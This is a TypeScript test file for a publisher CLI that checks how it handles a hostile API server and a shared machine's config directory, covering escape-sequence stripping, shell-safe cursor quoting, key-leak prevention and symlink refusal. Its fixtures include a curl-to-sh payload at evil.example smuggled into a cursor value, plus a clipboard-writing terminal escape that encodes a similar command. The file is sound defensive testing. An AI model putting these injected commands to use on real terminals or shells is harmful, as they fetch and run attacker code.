import { chmod, lstat, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../../libs/publisher-sdk/src/cli/main';
import { PublisherClient } from '../../../libs/publisher-sdk/src/client';
import { ApiError } from '../../../libs/publisher-sdk/src/errors';

/*
 * The CLI against an API that is not ours (a URL the user was tricked into, or a network in
 * between), and a machine it shares: what it prints, where it sends the key, what it reads, where
 * it writes the key. Real HTTP servers on loopback.
 */

const ESCAPES = '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b]0;owned\u0007\u001b[2J\u009b31m\u202e';
const KEY = 'xk_pub_' + 'k'.repeat(43);

let home: string;
beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'crawlgate-hostile-'));
});
afterEach(() => rm(home, { recursive: true, force: true }));

async function run(args: string[], env: Record<string, string> = {}) {
  let stdout = '';
  let stderr = '';
  const code = await main(args, {
    stdout: (text) => void (stdout += text),
    stderr: (text) => void (stderr += text),
    env: { XDG_CONFIG_HOME: home, HOME: home, CRAWLGATE_API_KEY: KEY, ...env },
  });
  return { code, stdout, stderr };
}

async function hostileApi(answer: (response: ServerResponse) => void) {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    answer(response);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))),
  };
}

/** A page's one payment, as the API lists them. */
const PAYMENT = {
  paid_at: '2026-11-29T00:00:00Z',
  url: '/a',
  price_usd: '0.001',
  payer: '0x1',
  network: 'local',
  tx_hash: null,
};

/** No character a terminal acts on: ESC, BEL, C1 (U+009B) or a bidi override. */
// eslint-disable-next-line no-control-regex -- the control characters are what it finds
const ACTED_ON = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('the CLI against an API that is not ours', () => {
  it('prints no sequence a terminal would act on, from an error’s detail, a 422’s items or a table', async () => {
    const answers = [
      (r: ServerResponse) =>
        r.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ detail: `Bad${ESCAPES}` })),
      (r: ServerResponse) =>
        r
          .writeHead(422, { 'content-type': 'application/json' })
          .end(JSON.stringify({ detail: [{ loc: ['body', `x${ESCAPES}`], msg: `m${ESCAPES}`, type: 't' }] })),
      (r: ServerResponse) =>
        r.writeHead(200, { 'content-type': 'application/json' }).end(
          JSON.stringify({
            items: [
              {
                site_id: 's',
                domain: `a.example${ESCAPES}`,
                name: ESCAPES,
                default_price_usd: '0.001',
                rules_count: 0,
                created_at: '2026-11-29T00:00:00Z',
              },
            ],
          }),
        ),
    ];
    for (const answer of answers) {
      const api = await hostileApi(answer);
      try {
        for (const json of [[], ['--json']]) {
          const { stdout, stderr } = await run(['sites', 'list', '--api', api.url, ...json]);
          expect({ stdout, stderr, acted: ACTED_ON.test(stdout + stderr) }).toMatchObject({ acted: false });
          expect(stdout + stderr).toMatch(/\\u001b/); // shown, as text
        }
      } finally {
        await api.close();
      }
    }
  });

  it('reads no answer beyond 16 MB', async () => {
    const api = await hostileApi((response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(1024 * 1024, 0x20);
      for (let i = 0; i < 20; i++) response.write(chunk);
      response.end('{}');
    });
    try {
      const { code, stderr } = await run(['sites', 'list', '--api', api.url]);
      expect(code).toBe(1);
      expect(stderr).toMatch(/larger than 16777216 bytes/);
      expect(api.seen).toHaveLength(1); // not retried
    } finally {
      await api.close();
    }
  });

  it('prints a next-page command a shell runs as shown, whatever cursor the API sends', async () => {
    const api = await hostileApi((response) =>
      response
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ items: [PAYMENT], next_cursor: "c1; curl -s https://evil.example/x | sh #'" })),
    );
    try {
      const { code, stdout } = await run(['payments', '11111111-1111-4111-8111-111111111111', '--api', api.url]);
      expect(code).toBe(0);
      expect(stdout).toContain(`--cursor 'c1; curl -s https://evil.example/x | sh #'\\'''`);
    } finally {
      await api.close();
    }
  });

  it('stops listing every page when the API sends a cursor it sent before', async () => {
    const api = await hostileApi((response) =>
      response
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ items: [PAYMENT], next_cursor: 'same' })),
    );
    try {
      const { code, stderr } = await run([
        'payments',
        '11111111-1111-4111-8111-111111111111',
        '--all',
        '--api',
        api.url,
      ]);
      expect(code).toBe(1);
      expect(stderr).toMatch(/cursor .*same.* again/);
      expect(api.seen.length).toBeLessThanOrEqual(3);
    } finally {
      await api.close();
    }
  });

  it('reports an error whose detail is a list of anything as the API’s error, not a crash', async () => {
    const api = await hostileApi((response) =>
      response
        .writeHead(422, { 'content-type': 'application/json' })
        .end(JSON.stringify({ detail: ['oops', 7, null] })),
    );
    try {
      const { code, stderr } = await run(['sites', 'list', '--api', api.url]);
      expect(code).toBe(1);
      expect(stderr).toMatch(/HTTP 422/);
      expect(stderr).not.toMatch(/Cannot read properties/);
    } finally {
      await api.close();
    }
  });

  it('never prints a key it was given with a line break in it (a CRLF secret file)', async () => {
    const api = await hostileApi((response) => void response.writeHead(200).end('{"items":[]}'));
    try {
      const broken = `${KEY}\r\nsecond-line`;
      const { code, stderr } = await run(['sites', 'list', '--api', api.url], { CRAWLGATE_API_KEY: broken });
      expect(code).not.toBe(0);
      expect(stderr).not.toContain('k'.repeat(43));
      expect(api.seen).toEqual([]);
    } finally {
      await api.close();
    }
  });

  it('takes no answer but the API’s as a new key: login and rotation fail, and the saved key stays', async () => {
    // A captive portal's page or `{}` with a 200: the CLI said "Logged in", exited 0 and saved no key.
    for (const body of ['<html>Welcome to the hotel wifi</html>', '{}', '{"api_key":7}', '"xk_pub_"', 'null']) {
      const api = await hostileApi((response) => void response.writeHead(200).end(body));
      try {
        const config = join(home, 'crawlgate', 'config.json');
        await mkdir(join(home, 'crawlgate'), { recursive: true, mode: 0o700 });
        await writeFile(config, JSON.stringify({ apiUrl: api.url, apiKey: KEY }), { mode: 0o600 });
        const loggedIn = await run([
          'login',
          '--api',
          api.url,
          '--email',
          'a@example.com',
          '--password',
          'pw-long-enough',
        ]);
        expect(loggedIn).toMatchObject({
          code: 1,
          stdout: '',
          stderr: expect.stringMatching(/not the Crawlgate API’s/),
        });
        const rotated = await run(['api-key', 'rotate'], { CRAWLGATE_API_KEY: '' });
        expect(rotated).toMatchObject({ code: 1, stdout: '' });
        expect(JSON.parse(await readFile(config, 'utf8'))).toEqual({ apiUrl: api.url, apiKey: KEY });
        const client = new PublisherClient({ apiUrl: api.url, apiKey: KEY });
        await expect(client.rotateApiKey()).rejects.toBeInstanceOf(ApiError);
        expect(client.hasApiKey).toBe(true);
      } finally {
        await api.close();
      }
    }
  });

  it('prints no secret it was not sent: a site created or a token rotated without one in the answer fails', async () => {
    const api = await hostileApi((response) => void response.writeHead(200).end('{"site_id":"s"}'));
    try {
      for (const args of [
        ['sites', 'create', 'news.example.com'],
        ['sites', 'rotate-token', '00000000-0000-4000-8000-000000000000'],
        ['sites', 'rotate-secret', '00000000-0000-4000-8000-000000000000'],
      ]) {
        const answered = await run([...args, '--api', api.url]);
        expect(answered).toMatchObject({ code: 1, stdout: '' });
        expect(answered.stderr).not.toMatch(/undefined/);
      }
    } finally {
      await api.close();
    }
  });

  it('never quotes back an argument it did not expect: it may be a password typed in the wrong place', async () => {
    const { code, stderr } = await run(['login', '--api', 'http://127.0.0.1:9', '--email', 'a@b.c', 'Secret-pw2']);
    expect(code).toBe(2);
    expect(stderr).toMatch(/Expected no arguments, got 1/);
    expect(stderr).not.toContain('Secret-pw2');
  });

  it('sends CRAWLGATE_API_KEY only to the API the environment or --api names, never to the config’s', async () => {
    const api = await hostileApi((response) => void response.writeHead(200).end('{"items":[]}'));
    const recording = await hostileApi((response) => void response.writeHead(200).end('{"items":[]}'));
    try {
      await mkdir(join(home, 'crawlgate'), { recursive: true, mode: 0o700 });
      // Saved by an earlier login elsewhere, without a key of its own, then with one: neither is used.
      for (const saved of [{ apiUrl: api.url }, { apiUrl: api.url, apiKey: `xk_pub_${'s'.repeat(43)}` }]) {
        await writeFile(join(home, 'crawlgate', 'config.json'), JSON.stringify(saved), { mode: 0o600 });
        const refused = await run(['sites', 'list']);
        expect(refused).toMatchObject({
          code: 1,
          stderr: expect.stringMatching(/CRAWLGATE_API_KEY is set, but no API/),
        });
      }
      expect(api.seen).toEqual([]);
      expect((await run(['sites', 'list', '--api', recording.url])).code).toBe(0);
      expect((await run(['sites', 'list'], { CRAWLGATE_API_URL: recording.url })).code).toBe(0);
      expect(recording.seen).toEqual(['GET /v1/sites', 'GET /v1/sites']);
    } finally {
      await api.close();
      await recording.close();
    }
  });

  it('sends no password or key over plain http off loopback, unless told the network is trusted', async () => {
    const plain = 'http://203.0.113.9';
    const refused = await run(['sites', 'list', '--api', plain]);
    expect(refused).toMatchObject({ code: 2, stderr: expect.stringMatching(/plain http.*CRAWLGATE_ALLOW_HTTP=1/s) });
    const login = await run(['login', '--api', plain, '--email', 'a@example.com', '--password', 'pw-long-enough']);
    expect(login).toMatchObject({ code: 2, stderr: expect.stringMatching(/plain http/) });
    // Loopback is a local set-up; with the opt-out, the request leaves (and here finds nobody).
    const api = await hostileApi((response) => void response.writeHead(200).end('{"items":[]}'));
    try {
      expect((await run(['sites', 'list', '--api', api.url.replace('127.0.0.1', 'localhost')])).stderr).not.toMatch(
        /plain http/,
      );
    } finally {
      await api.close();
    }
    const allowed = await run(['sites', 'list', '--api', 'http://127.0.0.2:9'], { CRAWLGATE_ALLOW_HTTP: '1' });
    expect(allowed.stderr).not.toMatch(/plain http/);
  });
});

describe('the config file on a shared machine', () => {
  /** Runs `args` against an API that issues a key to anyone; resolves to the run and the requests it got. */
  const withKeyIssuingApi = async (args: (apiUrl: string) => string[], env: Record<string, string> = {}) => {
    const api = await hostileApi((response) =>
      response
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ publisher_id: 'p', api_key: KEY, items: [] })),
    );
    try {
      return { ...(await run(args(api.url), env)), seen: api.seen };
    } finally {
      await api.close();
    }
  };
  const login = (apiUrl: string) => [
    'login',
    '--api',
    apiUrl,
    '--email',
    'a@example.com',
    '--password',
    'pw-long-enough',
  ];

  it('makes its own directory private before asking for a key, and refuses one that is a link, asking nothing', async () => {
    const dir = join(home, 'crawlgate');
    await mkdir(dir, { mode: 0o700 });
    await chmod(dir, 0o777); // made by hand, say, under a loose umask
    expect((await withKeyIssuingApi(login)).code).toBe(0);
    expect((await lstat(dir)).mode & 0o777).toBe(0o700);
    expect(JSON.parse(await readFile(join(dir, 'config.json'), 'utf8'))).toMatchObject({ apiKey: KEY });

    // A directory that is a link (somewhere another user could have put it) is refused before any key is issued.
    await rm(dir, { recursive: true });
    const elsewhere = await mkdtemp(join(tmpdir(), 'crawlgate-elsewhere-'));
    try {
      await symlink(elsewhere, dir);
      const refused = await withKeyIssuingApi(login);
      expect(refused).toMatchObject({ code: 1, stderr: expect.stringMatching(/not a directory of yours/), seen: [] });
    } finally {
      await rm(elsewhere, { recursive: true, force: true });
    }
  });

  it('reads no config file that is a link, and needs none when the environment gives the API and the key', async () => {
    const dir = join(home, 'crawlgate');
    await mkdir(dir, { mode: 0o700 });
    const planted = join(home, 'planted.json');
    await writeFile(planted, JSON.stringify({ apiUrl: 'https://evil.example' }), { mode: 0o600 });
    await symlink(planted, join(dir, 'config.json'));
    const listed = await run(['sites', 'list'], { CRAWLGATE_API_KEY: '' });
    expect(listed).toMatchObject({ code: 1, stderr: expect.stringMatching(/not a file of yours/) });
    const fromEnv = await withKeyIssuingApi(() => ['sites', 'list'], {});
    expect(fromEnv.code).toBe(1); // the environment's key names no API: refused, not sent to the config's
    const whole = await withKeyIssuingApi((apiUrl) => ['sites', 'list', '--api', apiUrl]);
    expect(whole).toMatchObject({ code: 0, seen: ['GET /v1/sites'] });
  });

  it('makes a config file others can read its owner’s alone before it reads the key from it', async () => {
    expect((await withKeyIssuingApi(login)).code).toBe(0);
    const path = join(home, 'crawlgate', 'config.json');
    await chmod(path, 0o644); // copied in by hand, say
    await run(['sites', 'list'], { CRAWLGATE_API_KEY: '' }); // its API is gone: what matters is the file it read
    expect((await lstat(path)).mode & 0o777).toBe(0o600);
  });

  it('writes the key to a fresh 0600 file it creates itself, never through a planted link', async () => {
    expect((await withKeyIssuingApi(login)).code).toBe(0);
    const path = join(home, 'crawlgate', 'config.json');
    expect((await lstat(path)).isSymbolicLink()).toBe(false);
    expect((await lstat(path)).mode & 0o777).toBe(0o600);
    expect(JSON.parse(await readFile(path, 'utf8'))).toMatchObject({ apiKey: KEY });
  });
});
